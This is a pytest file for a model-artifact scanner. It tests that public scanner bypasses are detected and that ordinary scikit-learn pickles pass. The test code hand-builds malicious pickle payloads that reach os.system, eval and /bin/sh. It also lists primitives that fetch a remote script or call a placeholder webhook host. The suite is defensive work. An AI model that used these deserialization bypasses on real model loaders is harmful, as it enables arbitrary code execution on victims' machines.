"""Scanner corpus: public-scanner bypasses (protectai/modelscan #85, #330, #338) are caught, and
benign scikit-learn models of many kinds pass (public scanners flag some of them)."""

from __future__ import annotations

import io
import pickle
import warnings
from pickle import (
    BUILD,
    DICT,
    GET,
    GLOBAL,
    MARK,
    NONE,
    POP,
    PROTO,
    PUT,
    REDUCE,
    SHORT_BINUNICODE,
    STACK_GLOBAL,
    STOP,
    TUPLE,
    TUPLE1,
    TUPLE2,
    UNICODE,
)
from typing import Any

import joblib
import numpy as np
import pytest
from sklearn.cluster import KMeans
from sklearn.compose import ColumnTransformer
from sklearn.datasets import load_iris
from sklearn.decomposition import PCA
from sklearn.ensemble import GradientBoostingClassifier, HistGradientBoostingClassifier, IsolationForest
from sklearn.feature_extraction.text import TfidfVectorizer
from sklearn.impute import SimpleImputer
from sklearn.linear_model import LogisticRegression
from sklearn.neighbors import KNeighborsClassifier
from sklearn.neural_network import MLPClassifier
from sklearn.pipeline import make_pipeline
from sklearn.preprocessing import OneHotEncoder, StandardScaler
from sklearn.svm import SVC
from sklearn.tree import DecisionTreeClassifier

from services.artifact_signer.scanner import scan_bytes


def short(text: str) -> bytes:
    data = text.encode()
    return SHORT_BINUNICODE + bytes([len(data)]) + data


def stack_global_call(module: str, name: str, *args: str) -> bytes:
    """PROTO 4; module name STACK_GLOBAL; MARK args TUPLE REDUCE: a call the scanner must refuse."""
    return (
        PROTO
        + b"\x04"
        + short(module)
        + short(name)
        + STACK_GLOBAL
        + MARK
        + b"".join(map(short, args))
        + TUPLE
        + REDUCE
        + STOP
    )


def modelscan_85() -> bytes:
    # modelscan #85: BUILD writes 'os'/'system' as attributes of an imported function, dotted
    # GLOBALs read them back into the memo, STACK_GLOBAL takes its names from the memo.
    p = PROTO + b"\x05" + GLOBAL + b"numpy\nprod\n"
    p += NONE + MARK + UNICODE + b"a\n" + UNICODE + b"os\n" + DICT + TUPLE2 + BUILD
    p += NONE + MARK + UNICODE + b"b\n" + UNICODE + b"system\n" + DICT + TUPLE2 + BUILD
    p += POP + GLOBAL + b"numpy\nprod.a\n" + PUT + b"0\n" + GLOBAL + b"numpy\nprod.b\n" + PUT + b"1\n" + POP + POP
    p += GET + b"0\n" + GET + b"1\n" + STACK_GLOBAL + UNICODE + b"echo pwned\n" + TUPLE1 + REDUCE + STOP
    return p


def modelscan_85_with_an_allowed_global() -> bytes:
    # The same trick started from a global that *is* on the allow-list.
    return modelscan_85().replace(b"numpy\nprod", b"numpy\ndtype")


# modelscan #330, verbatim: numpy.size's BUILD slot-state plants numpy.__builtins__, then
# `getattr`-style REDUCE of the planted dict reaches `eval`.
MODELSCAN_330 = bytes.fromhex(
    "80049566000000000000008c056e756d70798c0473697a659394948c056e756d70798c0c5f5f6275696c74696e735f5f93"
    "949468017d7d8c0573686170656803738662680168018c046576616c86528c1d5f5f696d706f72745f5f28226f7322292e"
    "73797374656d28226964222985522e"
)

# modelscan #338: execution and exfiltration primitives missing from deny-lists.
MODELSCAN_338 = [
    ("torch.utils.collect_env", "run", ("rm pwnd.txt",)),
    ("multiprocessing.util", "spawnv_passfds", ("/bin/sh",)),
    ("mlflow.projects.backend.local", "_run_entry_point", ("echo pwned", ".", "", "")),
    ("pandas.io.parsers.readers", "read_csv", ("https://webhook.invalid/?pwned",)),
    ("urllib.request", "urlretrieve", ("https://x.invalid/p.py", "/tmp/p.py")),
    ("importlib", "import_module", ("os",)),
    ("pkgutil", "resolve_name", ("os:system",)),
    ("numpy.testing._private.utils", "runstring", ("import os", "{}")),
]


@pytest.mark.parametrize(
    "payload",
    [modelscan_85(), modelscan_85_with_an_allowed_global(), MODELSCAN_330],
    ids=["modelscan-85", "modelscan-85-allowed-global", "modelscan-330"],
)
def test_memo_and_build_bypasses_are_caught(payload: bytes) -> None:
    scan = scan_bytes(payload, "model.pkl")
    assert not scan.safe


@pytest.mark.parametrize(("module", "name", "args"), MODELSCAN_338, ids=[f"{m}.{n}" for m, n, _ in MODELSCAN_338])
def test_execution_primitives_outside_deny_lists_are_caught(module: str, name: str, args: tuple[str, ...]) -> None:
    scan = scan_bytes(stack_global_call(module, name, *args), "model.bin")
    assert not scan.safe
    assert any(f"{module}.{name}" in f.message for f in scan.findings)


def test_bypass_inside_a_torch_style_zip_is_caught() -> None:
    import zipfile

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("archive/data.pkl", MODELSCAN_330)
        archive.writestr("archive/data/0", b"\x00" * 64)
    assert not scan_bytes(buffer.getvalue(), "pytorch_model.bin").safe


@pytest.fixture(scope="module")
def benign_models() -> dict[str, Any]:
    x, y = load_iris(return_X_y=True)
    text = ["red apple", "blue sky", "red sun", "blue sea"]
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # convergence warnings of deliberately tiny fits
        return {
            "gradient-boosting": GradientBoostingClassifier(n_estimators=3).fit(x, y),
            "hist-gradient-boosting": HistGradientBoostingClassifier(max_iter=3).fit(x, y),
            "svc": SVC(probability=True).fit(x, y),
            "kmeans": KMeans(n_clusters=3, n_init=1).fit(x),
            "pca-knn": make_pipeline(PCA(2), KNeighborsClassifier()).fit(x, y),
            "decision-tree": DecisionTreeClassifier(max_depth=3).fit(x, y),
            "mlp": MLPClassifier(max_iter=20).fit(x, y),
            "isolation-forest": IsolationForest(n_estimators=3).fit(x),
            "tfidf-logreg": make_pipeline(TfidfVectorizer(), LogisticRegression()).fit(text, [0, 1, 0, 1]),
            "column-transformer": make_pipeline(
                ColumnTransformer(
                    [("onehot", OneHotEncoder(handle_unknown="ignore"), [0]), ("scale", StandardScaler(), [1, 2])]
                ),
                SimpleImputer(),
                LogisticRegression(),
            ).fit(np.c_[np.round(x[:, :1]), x[:, 1:3]], y),
        }


@pytest.mark.parametrize("protocol", [2, 4, 5])
def test_benign_sklearn_models_of_many_kinds_pass(benign_models: dict[str, Any], protocol: int) -> None:
    flagged = {
        name: [f.message for f in scan.findings]
        for name, model in benign_models.items()
        if not (scan := scan_bytes(pickle.dumps(model, protocol=protocol), name)).safe
    }
    assert flagged == {}


def test_benign_sklearn_models_pass_as_joblib(benign_models: dict[str, Any]) -> None:
    for name, model in benign_models.items():
        buffer = io.BytesIO()
        joblib.dump(model, buffer)
        scan = scan_bytes(buffer.getvalue(), name)
        assert scan.safe, (name, [f.message for f in scan.findings])


def test_cython_helpers_are_allowed_only_in_estimator_packages() -> None:
    # Exact names only: the helper must exist in the installed scikit-learn (1.9 has this one).
    allowed = stack_global_call("sklearn._loss._loss", "__pyx_unpickle_CyHalfMultinomialLoss")
    assert not any("not on the allow-list" in f.message for f in scan_bytes(allowed, "x").findings)
    for module, name in [
        ("sklearn.utils._testing", "__pyx_unpickle_Anything"),
        ("sklearn.utils.parallel", "newObj"),
        ("sklearn._loss._loss", "__pyx_unpickle_lowercase"),
    ]:
        assert not scan_bytes(stack_global_call(module, name), "x").safe
